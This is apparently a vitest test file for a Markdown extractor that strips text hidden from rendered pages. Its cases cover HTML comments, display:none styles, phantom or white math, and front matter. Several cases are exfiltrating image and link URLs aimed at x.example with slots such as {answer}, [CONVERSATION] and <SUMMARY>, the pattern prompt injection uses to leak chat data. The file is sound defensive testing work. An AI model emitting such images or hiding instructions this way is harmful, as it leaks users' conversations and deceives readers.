/** What a rendered Markdown page does not show is cut; what looks like it and is shown comes back as it is. */
import { describe, expect, it } from 'vitest';
import { extractMarkdown } from '../../../ingest/formats/markdown.ts';
import { type Attack, type LookAlike, SECRET, seenIn } from './text-like.ts';

const SVG = Buffer.from('<svg><text>SECRET words</text></svg>').toString('base64');

const ATTACKS: readonly Attack[] = [
  ['a comment over blank lines', 'a\n\n<!-- one\n\nSECRET -->\n\nb', ['a', 'b'], 'html-comment info'],
  ['a comment without an end', 'a\n\n<!-- SECRET\n\nSECRET', ['a'], 'html-comment info'],
  ['a comment between letters', 'foo<!-- SECRET -->bar', ['foobar'], 'markdown-comment info'],
  ['a definition as a comment', 'a\n\n[comment]: <> (SECRET)', ['a'], 'markdown-definition info'],
  ['a second definition of a name', '[a]\n\n[a]: x\n[a]: y "SECRET"', ['a'], 'markdown-definition info'],
  [
    'the label of a reference',
    '[a][SECRET words of a label]\n\n[SECRET words of a label]: x',
    ['a'],
    'markdown-reference-label info',
  ],
  ['a link without words', 'a [](https://x.example/SECRET)', ['a '], 'markdown-empty-link low'],
  ['a footnote that only a hidden one uses', 'a\n\n[^1]: SECRET [^2]\n\n[^2]: SECRET', ['a'], 'markdown-footnote info'],
  [
    'cells beyond the header',
    '| a | b |\n|---|---|\n| 1 | 2 | SECRET |',
    ['a | b\n1 | 2'],
    'markdown-table-overflow low',
  ],
  ['words behind a language', '```js SECRET\nx\n```', ['x'], 'markdown-code-info info'],
  ['a language that is a sentence', '```SECRET-words-that-no-language-has\nx\n```', ['x'], 'markdown-code-info info'],
  ['a comment in a diagram', '```mermaid\ngraph TD\n%% SECRET\n```', ['graph TD\n'], 'markdown-diagram-comment info'],
  ['a phantom', 'so $a\\phantom{SECRET {x}}b$', ['so $ab$'], 'markdown-math-unseen info'],
  ['white in a formula', 'so $a\\textcolor{white}{SECRET}$', ['so $a$'], 'markdown-math-white medium'],
  ['white to the end of a group', 'so $a{\\color{#fff} SECRET}b$', ['so $a{}b$'], 'markdown-math-white medium'],
  ['a comment in a formula', '$$\na % SECRET\nb\n$$', ['$$ a  b $$'], 'markdown-math-comment info'],
  ['a phantom in a block of math', '```math\na\\hphantom{SECRET}b\n```', ['ab'], 'markdown-math-unseen info'],
  [
    'a word of a style',
    'a <span style="display:none">SECRET **and** `SECRET`</span>b',
    ['a b'],
    'css-display-none info',
  ],
  [
    'a block of a style over Markdown',
    '<div style="display:none">\n\n# SECRET\n\n- SECRET\n\n</div>\n\nb',
    ['b'],
    'css-display-none info',
  ],
  [
    'a folded part that is hidden',
    '<details hidden>\n\nSECRET\n\n</details>\n\nb',
    ['b'],
    'html-hidden-attribute info',
  ],
  [
    'a style sheet that hides paragraphs of a class',
    '<style>.x{display:none}</style>\n\n<p class="x">SECRET</p>\n\nb',
    ['b'],
    'css-display-none info',
  ],
  ['a template over Markdown', '<template>\n\nSECRET\n\n</template>\n\nb', ['b'], 'html-template info'],
  ['front matter', '---\ntitle: Guide\nnote: SECRET\n---\n\nb', ['b'], 'front-matter info'],
  ['a picture that waits for data', '![a](https://x.example/SECRET?d={answer})', [], 'exfiltrating-image high'],
  [
    'a picture of a reference that waits for data',
    '![a][r]\n\n[r]: https://x.example/SECRET?d=[CONVERSATION]',
    [],
    'exfiltrating-image high',
  ],
  [
    'a picture without a scheme that waits for data',
    '![a](//x.example/SECRET?d=%7Bq%7D)',
    [],
    'exfiltrating-image high',
  ],
  ['a picture whose host waits for data', '![a](https://{data}.SECRET.example/p.png)', [], 'exfiltrating-image high'],
  [
    'a picture in HTML that waits for data',
    'a <img src="https://x.example/SECRET?d={q}">b',
    ['a b'],
    'exfiltrating-image high',
  ],
  ['a link that waits for data', '[a](https://x.example/SECRET?d=<SUMMARY>)', ['a'], 'exfiltrating-link medium'],
  ['words in the address of a drawing', `![a](data:image/svg+xml;base64,${SVG})`, [], 'embedded-image info'],
];

const CODE = '```html\n<p style="display:none">x</p> <!-- y -->\n[//]: # (z) ![a](https://x.example/?d={answer})\n```';

const LOOK_ALIKES: readonly LookAlike[] = [
  [
    'code that shows such tricks',
    CODE,
    ['<p style="display:none">x</p> <!-- y -->\n[//]: # (z) ![a](https://x.example/?d={answer})'],
  ],
  [
    'code in a line that shows such tricks',
    'use `<span hidden>` and `![a](https://x.example/?d={answer})`',
    ['use <span hidden> and ![a](https://x.example/?d={answer})'],
  ],
  [
    'a licence and a table of contents',
    '<!-- SPDX-License-Identifier: Apache-2.0 -->\n# A\n\n<!-- toc -->\n\n- [B](#b)\n\n<!-- tocstop -->',
    ['A', '- B'],
  ],
  ['references that are used', '[a] and [b][c]\n\n[a]: https://x.example\n[c]: https://y.example', ['a and b']],
  [
    'badges',
    '[![build](https://img.shields.io/badge/build-ok-green?style=flat)](https://ci.example) text',
    [' text'.trim()],
  ],
  [
    'a folded answer',
    '<details>\n<summary>How long?</summary>\n\nTen *days*.\n\n</details>\n\nb',
    ['How long?', 'Ten days.', 'b'],
  ],
  ['keys, breaks and small type', 'press <kbd>Ctrl</kbd>+<kbd>C</kbd><br>H<sub>2</sub>O', ['press Ctrl+C\nH2O']],
  ['a picture in the middle, and words', '<p align="center">\n  <img src="logo.png" alt="Logo">\n</p>\n\n# A', ['A']],
  ['an anchor before a line', '<a name="x"></a>\nText', ['Text']],
  [
    'a table of HTML with Markdown in it',
    '<table><tr><td>\n\n**one**\n\n</td><td>\n\ntwo\n\n</td></tr></table>',
    ['one', 'two'],
  ],
  [
    'lists in a page with HTML',
    '1. one <b>b</b>\n2. two\n   - [x] three\n\n> four',
    ['1. one b', '2. two', '- [x] three', 'four'],
  ],
  [
    'blocks of HTML among others',
    '# A\n\n<div>one</div>\n\ntwo\n\n<div>three</div>\n\n## B',
    ['A', 'one', 'two', 'three', 'B'],
  ],
  ['coloured words', 'a <span style="color:red">warning</span>', ['a warning']],
  ['white words on a dark ground', '<div style="background:#222;color:#fff">\n\nnight\n\n</div>', ['night']],
  ['footnotes that are used', 'a[^1]\n\n[^1]: b[^2]\n\n[^2]: c', ['a[1]', '[1] b[2]', '[2] c']],
  ['prices', 'from $5 to $10, 20% off \\phantom{x}', ['from $5 to $10, 20% off \\phantom{x}']],
  ['a formula', '$a_1 + b^2$ and $\\color{red}{x}$', ['$a_1 + b^2$ and $\\color{red}{x}$']],
  ['white on a box in a formula', '$\\colorbox{black}{\\color{white}{x}}$', ['$\\colorbox{black}{\\color{white}{x}}$']],
  ['a table with empty cells', '| a | b |\n|---|---|\n| 1 |   |', ['a | b\n1 | ']],
  [
    'an address with a pattern',
    'GET https://api.example/users/{id}?page={n}',
    ['GET https://api.example/users/{id}?page={n}'],
  ],
  ['a filter in an address', '[list](https://x.example/?filter[name]=a&$top=5&tags[]=b)', ['list']],
  ['an address with percent signs', '<https://x.example/a%20b?c=%C3%A9>', ['https://x.example/a%20b?c=%C3%A9']],
  ['an unclosed comment in a line', 'a <!-- b', ['a <!-- b']],
  ['entities', 'a &lt;b&gt; &amp;&nbsp;c', ['a <b> &\u00a0c']],
];

describe('a Markdown page', () => {
  it.each(ATTACKS)('does not show, and is cut: %s', async (_what, file, texts, found) => {
    const seen = await seenIn(extractMarkdown, file);
    expect(seen.texts).toEqual(texts);
    expect(seen.techniques).toContain(found);
    expect(seen.removed).toContain(SECRET);
  });

  it.each(LOOK_ALIKES)('shows, and raises no alarm: %s', async (_what, file, texts) => {
    const seen = await seenIn(extractMarkdown, file);
    expect(seen.texts.map((text) => text.trimStart())).toEqual(texts);
    expect(seen.loud).toEqual([]);
  });

  it('takes its title from the first heading, and else from front matter', async () => {
    const title = async (text: string) => (await extractMarkdown(Buffer.from(text))).title;
    expect(await title('---\ntitle: "Guide: one" # draft\n---\n\nb')).toBe('Guide: one');
    expect(await title('+++\ntitle = "Guide"\n+++\n\nb')).toBe('Guide');
    expect(await title('---\ntitle: Guide\n---\n\n# Head')).toBe('Head');
    expect(await title('---\ntitle: >\n  folded\n---\n\nb')).toBeUndefined();
  });

  it('has the lines of the source also where it is rendered', async () => {
    const { blocks } = await extractMarkdown(Buffer.from('# A\n\ntext\n\n<div>\none\n</div>\n\n<p>two</p>\n\nend'));
    expect(blocks.map(({ locator }) => locator.line)).toEqual([1, 3, 5, 9, 11]);
  });

  it('lets no text pose as a mark of the page', async () => {
    const seen = await seenIn(extractMarkdown, 'a <b>x</b>\n\n<p hidden>\uE0000123456789abcdef.0\uE001SECRET</p>');
    expect(seen.texts).toEqual(['a x']);
  });
});
